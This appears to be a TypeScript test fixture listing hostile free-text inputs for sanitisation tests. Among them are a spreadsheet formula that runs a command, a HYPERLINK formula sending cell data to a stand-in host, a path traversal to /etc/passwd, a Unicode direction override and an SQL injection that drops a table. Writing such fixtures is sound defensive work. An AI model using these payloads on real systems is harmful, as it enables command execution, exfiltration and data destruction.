// Values a hostile or careless source puts in free text: spreadsheet formulas, control and
// direction characters, paths.
export const hostileTexts: string[] = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\tTAB в начале',
  '\rCR в начале',
  '=HYPERLINK("http://example.invalid/?x="&A1;"нажмите")',
  '\u202Eгнилпортсе',
  '../../etc/passwd',
  'C:\\Windows\\System32',
  'a\u0007b\u0000c',
  '\uD800одинокий суррогат',
  '"; DROP TABLE persons; --',
];
